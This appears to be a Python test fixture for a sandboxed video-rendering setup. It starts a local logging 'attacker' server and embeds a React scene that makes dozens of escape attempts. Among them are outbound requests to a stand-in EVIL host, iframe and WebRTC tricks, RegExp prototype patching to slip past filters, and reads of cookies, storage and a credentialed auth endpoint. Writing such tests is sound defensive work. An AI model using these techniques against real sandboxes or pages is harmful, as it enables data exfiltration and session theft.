"""A server on another port that records whatever reaches it, and a scene that tries to escape."""

import asyncio
from typing import Self

ANSWER = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\n"
    b"Content-Length: 6\r\nConnection: close\r\n\r\ncaught"
)


class Attacker:
    """Records the first line of each TCP connection and each UDP packet in `received`.

    A connection that sent nothing leaves an empty line.
    """

    port: int

    def __init__(self) -> None:
        self.received: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    async def __aenter__(self) -> Self:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        loop = asyncio.get_running_loop()
        address = ("127.0.0.1", self.port)
        self._udp, _ = await loop.create_datagram_endpoint(lambda: _Packets(self.received), address)
        return self

    async def __aexit__(self, *_: object) -> None:
        self._udp.close()
        self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        index = len(self.received)
        self.received.append("")
        self.received[index] = (await reader.readline()).decode().strip()
        writer.write(ANSWER)
        writer.close()


class _Packets(asyncio.DatagramProtocol):
    def __init__(self, received: list[str]) -> None:
        self._received = received

    def datagram_received(self, data: bytes, address: tuple[str, int]) -> None:
        self._received.append(f"UDP {data[:20]!r}")


# Each attempt shows how it ended: "refused", or what it got. A `quiet` one cannot tell; the server
# would record it.
ESCAPES = """
import {AbsoluteFill} from 'remotion';
import {useEffect, useState} from 'react';

const EVIL = 'http://127.0.0.1:%(port)s/';
const OWN = '%(own)s';
const ends = (made: any, good = 'load', bad = 'error') => new Promise((resolve, reject) => {
  made.addEventListener(good, () => resolve('got in'));
  made.addEventListener(bad, () => reject(new Error('no')));
});
const put = (tag: string, fields: object) => {
  const made = Object.assign(document.createElement(tag), fields);
  const end = ends(made);
  document.head.append(made);
  return end;
};
const quiet = (tag: string, fields: object) => {
  put(tag, fields).catch(() => undefined);
  throw new Error('the server records it');
};
const xhr = (url: string) => {
  const request = new XMLHttpRequest();
  const end = ends(request);
  request.open('GET', url);
  request.send();
  return end;
};
const peer = `new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%(port)s'}]})`;
const call = `const p = ${peer}; p.createDataChannel('x');
  p.createOffer().then(o => p.setLocalDescription(o))`;
const attempts: Record<string, () => unknown> = {
  fetch: () => fetch(EVIL),
  fetchNoCors: () => fetch(EVIL, {mode: 'no-cors'}),
  ownApi: () => fetch(OWN + '/api/auth/me', {credentials: 'include'}),
  xhr: () => xhr(EVIL),
  webSocket: () => ends(new WebSocket(EVIL.replace('http', 'ws')), 'open'),
  ownSocket: () => ends(new WebSocket(OWN.replace('http', 'ws') + '/x'), 'open'),
  eventSource: () => ends(new EventSource(EVIL), 'open'),
  beacon: () => { if (!navigator.sendBeacon(EVIL, 'x')) throw new Error('no'); quiet('i', {}); },
  image: () => put('img', {src: EVIL}),
  ownImage: () => put('img', {src: OWN + '/x.png'}),
  video: () => ends(Object.assign(document.createElement('video'), {src: EVIL})),
  script: () => put('script', {src: EVIL}),
  style: () => put('link', {rel: 'stylesheet', href: EVIL}),
  font: () => new FontFace('x', `url(${EVIL})`).load(),
  importing: () => new Function('url', 'return import(url)')(EVIL),
  worker: () => ends(new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}')`]))), 'message'),
  background: () => quiet('style', {textContent: `body {background: url(${EVIL})}`}),
  nested: () => quiet('iframe', {src: EVIL}),
  nestedInline: () => quiet('iframe', {srcdoc: `<img src="${EVIL}">`}),
  nestedPeer: () => quiet('iframe', {srcdoc: `<script>${call}</scr` + 'ipt>'}),
  nestedScript: () => quiet('iframe', {src: `javascript:${call}`}),
  nestedCustom: () => {
    customElements.define('x-frame', class extends HTMLIFrameElement {}, {extends: 'iframe'});
    quiet('x-frame', {});
  },
  nestedCommand: () => {
    document.body.contentEditable = 'true';
    getSelection()!.selectAllChildren(document.body);
    const done = document.execCommand('insertHTML', false, '<iframe></iframe>');
    if (!done || window.length === 0) throw new Error('no');
  },
  nestedPatched: () => {
    RegExp.prototype.test = () => false;
    RegExp.prototype.exec = () => null;
    document.createElement('iframe');
  },
  nestedBlank: () => {
    document.body.append(document.createElement('iframe'));
    new Function('RTCPeerConnection', call)((window[0] as any).RTCPeerConnection);
  },
  nestedMarkup: () => {
    document.body.innerHTML += `<iframe srcdoc="<script>${call}</scr` + 'ipt>">';
  },
  object: () => quiet('object', {data: EVIL}),
  prefetch: () => quiet('link', {rel: 'prefetch', href: EVIL}),
  preload: () => quiet('link', {rel: 'preload', as: 'image', href: EVIL}),
  preconnect: () => quiet('link', {rel: 'preconnect', href: EVIL}),
  speculation: () => quiet('script', {
    type: 'speculationrules',
    textContent: JSON.stringify({prefetch: [{source: 'list', urls: [EVIL]}]}),
  }),
  peer: () => new Function(call)(),
  parentDocument: () => parent.document.title,
  topLocation: () => top!.location.href,
  topCookie: () => top!.document.cookie,
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => ends(indexedDB.open('x'), 'success'),
  caches: () => caches.open('x'),
  serviceWorker: () => navigator.serviceWorker.register('/x.js'),
  leave: () => { top!.location.href = EVIL; },
  popUp: () => { if (window.open(EVIL) === null) throw new Error('no'); },
};
const results: Record<string, string> = {};
for (const [name, work] of Object.entries(attempts)) {
  results[name] = 'waits';
  new Promise((resolve) => resolve(work())).then(
    (value) => { results[name] = `GOT ${value}`; },
    () => { results[name] = 'refused'; },
  );
}
export default function Escapes() {
  const [, draw] = useState(0);
  useEffect(() => {
    const timer = setInterval(() => draw((count) => count + 1), 50);
    return () => clearInterval(timer);
  }, []);
  return (
    <AbsoluteFill style={{background: '#fff', columns: 3, fontSize: 40}}>
      <b>{self.origin}</b>
      {Object.entries(results).map(([name, end]) => <p key={name}>{name}: {end}</p>)}
    </AbsoluteFill>
  );
}
"""
